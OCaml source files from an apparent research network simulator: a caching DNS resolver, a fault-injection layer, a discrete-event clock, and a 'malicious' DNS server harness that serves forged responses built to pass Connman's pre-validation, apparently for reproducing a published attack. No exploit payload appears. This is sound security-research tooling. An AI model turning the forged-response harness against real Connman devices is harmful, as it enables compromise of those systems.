                      rcode = Dns.Packet.rcode_of_code (Dns.Wire.rcode view);
                    };
                  questions = [ q ];
                  answers = [];
                  authorities = [];
                  additionals = [];
                }
              in
              (* Chase CNAMEs within the local zone (bounded), answering
                 with the chain plus the terminal A record, as a real
                 recursive resolver does. *)
              let rec chase name chain hops =
                if hops > 4 then List.rev chain
                else
                  match List.assoc_opt name cnames with
                  | Some target ->
                      chase target
                        (Dns.Packet.cname_record (Dns.Name.of_string name)
                           ~ttl:zone_ttl
                           ~target:(Dns.Name.of_string target)
                        :: chain)
                        (hops + 1)
                  | None -> (
                      match List.assoc_opt name zone with
                      | Some ip ->
                          List.rev
                            (Dns.Packet.a_record (Dns.Name.of_string name)
                               ~ttl:zone_ttl ~ipv4:ip
                            :: chain)
                      | None -> List.rev chain)
              in
              let qname = Dns.Name.to_string q.Dns.Packet.qname in
              let answer answers =
                Dns.Packet.encode_into arena (Dns.Packet.response ~query answers);
                reply ctx dgram (Dns.Wire.contents arena)
              in
              let resolve_and_fill () =
                let answers = chase qname [] 0 in
                (match cache with
                | None -> ()
                | Some c -> (
                    let now = now_s ctx in
                    (* Cache the terminal A under the *queried* name (a
                       stub cache collapses the chain), or the absence
                       of one as a negative entry. *)
                    let terminal =
                      List.find_map
                        (fun (rr : Dns.Packet.rr) ->
                          if rr.Dns.Packet.rtype = Dns.Packet.A then
                            Dns.Packet.ipv4_of_rdata rr.Dns.Packet.rdata
                          else None)
                        answers
                    in
                    match terminal with
                    | Some ip ->
                        Dns.Cache.insert c ~now ~name:qname ~ttl:zone_ttl
                          ~ipv4:ip
                    | None ->
                        Dns.Cache.insert_negative c ~now ~name:qname
                          ~ttl:negative_ttl));
                answer answers
              in
              (match (q.Dns.Packet.qtype, cache) with
              | Dns.Packet.A, Some c -> (
                  match Dns.Cache.find c ~now:(now_s ctx) qname with
                  | Dns.Cache.Hit ip ->
                      answer
                        [
                          Dns.Packet.a_record q.Dns.Packet.qname ~ttl:zone_ttl
                            ~ipv4:ip;
                        ]
                  | Dns.Cache.Negative_hit -> answer []
                  | Dns.Cache.Miss -> resolve_and_fill ())
              | Dns.Packet.A, None -> answer (chase qname [] 0)
              | _ -> answer [])
          | _ -> ()))

(* NOTE: [malicious] below stays on the materializing [Packet.decode] —
   it is the attacker's box, runs cold, and its [forge] callback wants
   the whole query anyway. *)

let malicious _world host ~forge =
  World.on_udp host ~port:53 (fun ctx dgram ->
      match Dns.Packet.decode dgram.World.payload with
      | Error _ -> ()
      | Ok query -> (
          match forge ~query ~raw:dgram.World.payload with
          | Some response -> reply ctx dgram response
          | None -> ()))
