(** DNS servers for the simulated network.

    {!resolver} is an honest authoritative/recursive stand-in with a
    static zone.  {!malicious} is the paper's attack server: it answers
    every query with whatever the forging callback produces — typically
    {!Exploit.Autogen}-built responses that echo the query id and
    question so Connman's pre-validation passes. *)

val resolver :
  ?cnames:(string * string) list ->
  ?cache:Dns.Cache.t ->
  World.t ->
  World.host ->
  zone:(string * Ip.t) list ->
  unit
(** Serve port 53: A answers for zone entries (chasing up to four local
    [cnames] links first, answering with the whole chain), empty answers
    otherwise.  Malformed queries are dropped.

    With [cache], A queries are answered from it when fresh (a cached
    CNAME chain collapses to a single A for the queried name), zone
    misses are negatively cached, and resolution results fill it — the
    cache runs on the world's {!Sim} clock (seconds).  Pass a cache
    created by the caller so its stats stay observable. *)

val malicious :
  World.t ->
  World.host ->
  forge:(query:Dns.Packet.t -> raw:string -> string option) ->
  unit
(** Serve port 53: [forge] receives the decoded query and the raw bytes
    and returns the full response datagram to send (or [None] to stay
    silent). *)
