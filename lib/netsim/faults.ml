module Rng = Memsim.Rng

type latency =
  | Const of int
  | Uniform of { lo : int; hi : int }
  | Jitter of { base : int; jitter : int }

type policy = {
  drop : float;
  duplicate : float;
  corrupt : float;
  reorder : float;
  reorder_window_us : int;
  latency : latency;
  flaps : (int * int) list;
}

let default =
  {
    drop = 0.0;
    duplicate = 0.0;
    corrupt = 0.0;
    reorder = 0.0;
    reorder_window_us = 0;
    latency = Uniform { lo = 200; hi = 800 };
    flaps = [];
  }

let validate p =
  let prob field v =
    if v < 0.0 || v > 1.0 || Float.is_nan v then
      invalid_arg (Printf.sprintf "Faults.validate: %s must be in [0, 1]" field)
  in
  prob "drop" p.drop;
  prob "duplicate" p.duplicate;
  prob "corrupt" p.corrupt;
  prob "reorder" p.reorder;
  if p.reorder_window_us < 0 then
    invalid_arg "Faults.validate: reorder_window_us must be non-negative";
  (match p.latency with
  | Const d when d < 0 -> invalid_arg "Faults.validate: latency must be non-negative"
  | Uniform { lo; hi } when lo < 0 || hi <= lo ->
      invalid_arg "Faults.validate: latency range must satisfy 0 <= lo < hi"
  | Jitter { base; jitter } when base < 0 || jitter < 0 ->
      invalid_arg "Faults.validate: latency base and jitter must be non-negative"
  | _ -> ());
  List.iter
    (fun (a, b) ->
      if a < 0 || b < a then
        invalid_arg "Faults.validate: flap window must satisfy 0 <= from <= until")
    p.flaps;
  p

let lossy drop = validate { default with drop }

let pp_latency ppf = function
  | Const d -> Format.fprintf ppf "%dus" d
  | Uniform { lo; hi } -> Format.fprintf ppf "%d..%dus" lo hi
  | Jitter { base; jitter } -> Format.fprintf ppf "%dus+-%d" base jitter

let pp ppf p =
  Format.fprintf ppf
    "@[<h>drop=%.2f dup=%.2f corrupt=%.2f reorder=%.2f/%dus latency=%a flaps=%d@]"
    p.drop p.duplicate p.corrupt p.reorder p.reorder_window_us pp_latency
    p.latency (List.length p.flaps)

type fate = Pass | Drop_fault | Drop_link

type plan = {
  copies : (int * string) list;
  fate : fate;
  corrupted : bool;
  duplicated : bool;
  reordered : bool;
}

let link_up p ~now =
  not (List.exists (fun (a, b) -> now >= a && now < b) p.flaps)

(* Gated draw: probabilities of exactly 0 consume no randomness, so
   un-impaired policies keep the rng stream identical to a world with no
   fault layer at all. *)
let hit rng p = p > 0.0 && Rng.float rng < p

let draw_latency rng = function
  | Const d -> d
  | Uniform { lo; hi } -> lo + Rng.int rng (hi - lo)
  | Jitter { base; jitter } ->
      if jitter = 0 then base
      else max 0 (base - jitter + Rng.int rng ((2 * jitter) + 1))

let corrupt_payload rng payload =
  let n = String.length payload in
  if n = 0 then payload
  else begin
    let pos = Rng.int rng n in
    (* xor with a non-zero byte so the payload genuinely changes *)
    let flip = 1 + Rng.int rng 255 in
    let b = Bytes.of_string payload in
    Bytes.set b pos (Char.chr (Char.code (Bytes.get b pos) lxor flip));
    Bytes.to_string b
  end

let apply rng p ~now ~payload =
  if not (link_up p ~now) then
    { copies = []; fate = Drop_link; corrupted = false; duplicated = false;
      reordered = false }
  else if hit rng p.drop then
    { copies = []; fate = Drop_fault; corrupted = false; duplicated = false;
      reordered = false }
  else begin
    let delay = draw_latency rng p.latency in
    let corrupted = hit rng p.corrupt in
    let payload = if corrupted then corrupt_payload rng payload else payload in
    let duplicated = hit rng p.duplicate in
    let dup_delay = if duplicated then draw_latency rng p.latency else 0 in
    let reordered = hit rng p.reorder && p.reorder_window_us > 0 in
    let extra =
      if reordered then Rng.int rng (p.reorder_window_us + 1) else 0
    in
    let copies =
      (delay + extra, payload)
      :: (if duplicated then [ (dup_delay, payload) ] else [])
    in
    { copies; fate = Pass; corrupted; duplicated; reordered }
  end
