(* A binary heap keyed on (time, sequence) gives timestamp order with FIFO
   tie-breaking. *)

type event = { time : int; seq : int; action : t -> unit }

and t = {
  mutable clock : int;
  mutable next_seq : int;
  mutable heap : event array;
  mutable size : int;
  rng : Memsim.Rng.t;
}

(* Inert filler for empty heap slots: vacated slots must not keep a
   popped event's [action] closure (and whatever it captures) alive. *)
let sentinel = { time = max_int; seq = max_int; action = (fun _ -> ()) }

let create ?(seed = 1) () =
  {
    clock = 0;
    next_seq = 0;
    heap = Array.make 64 sentinel;
    size = 0;
    rng = Memsim.Rng.create seed;
  }

let now t = t.clock
let rng t = t.rng
let key e = (e.time, e.seq)

let swap t i j =
  let tmp = t.heap.(i) in
  t.heap.(i) <- t.heap.(j);
  t.heap.(j) <- tmp

let rec sift_up t i =
  if i > 0 then begin
    let parent = (i - 1) / 2 in
    if key t.heap.(i) < key t.heap.(parent) then begin
      swap t i parent;
      sift_up t parent
    end
  end

let rec sift_down t i =
  let l = (2 * i) + 1 and r = (2 * i) + 2 in
  let smallest = ref i in
  if l < t.size && key t.heap.(l) < key t.heap.(!smallest) then smallest := l;
  if r < t.size && key t.heap.(r) < key t.heap.(!smallest) then smallest := r;
  if !smallest <> i then begin
    swap t i !smallest;
    sift_down t !smallest
  end

let schedule t ~delay action =
  let delay = max 0 delay in
  if t.size = Array.length t.heap then begin
    let bigger = Array.make (2 * t.size) sentinel in
    Array.blit t.heap 0 bigger 0 t.size;
    t.heap <- bigger
  end;
  t.heap.(t.size) <- { time = t.clock + delay; seq = t.next_seq; action };
  t.next_seq <- t.next_seq + 1;
  t.size <- t.size + 1;
  sift_up t (t.size - 1)

let pop t =
  if t.size <= 0 then
    invalid_arg "Sim.pop: empty event heap (no events scheduled)";
  let top = t.heap.(0) in
  t.size <- t.size - 1;
  if t.size > 0 then begin
    t.heap.(0) <- t.heap.(t.size);
    sift_down t 0
  end;
  t.heap.(t.size) <- sentinel;
  top

let pending t = t.size
let next_time t = if t.size = 0 then None else Some t.heap.(0).time

let run ?until t =
  let processed = ref 0 in
  let continue () =
    t.size > 0
    && match until with None -> true | Some limit -> t.heap.(0).time <= limit
  in
  while continue () do
    let e = pop t in
    t.clock <- max t.clock e.time;
    e.action t;
    incr processed
  done;
  (* [run ~until] means "simulate up to [until]": even when the heap
     drains early (or the next event lies beyond the horizon), that much
     simulated time has passed.  Leaving [clock] at the last event made a
     subsequent [schedule ~delay] fire in the logical past relative to
     the caller's wall time. *)
  (match until with
  | Some limit -> if t.clock < limit then t.clock <- limit
  | None -> ());
  !processed
