(** Discrete-event simulation clock.

    Events fire in timestamp order (FIFO among equal timestamps), each
    receiving the simulator so it can schedule follow-ups.  Time is in
    microseconds. *)

type t

val create : ?seed:int -> unit -> t
val now : t -> int
val rng : t -> Memsim.Rng.t

val schedule : t -> delay:int -> (t -> unit) -> unit
(** [delay] is relative to [now]; negative delays are clamped to 0. *)

val run : ?until:int -> t -> int
(** Process events until the queue empties (or simulated time passes
    [until]).  Returns the number of events processed.  With [until],
    the clock always ends at [max now until] even when the heap drains
    early — the horizon was simulated, so later [schedule ~delay] calls
    are relative to it, not to the last event that happened to fire. *)

val pending : t -> int

val next_time : t -> int option
(** Timestamp of the earliest pending event, if any. *)
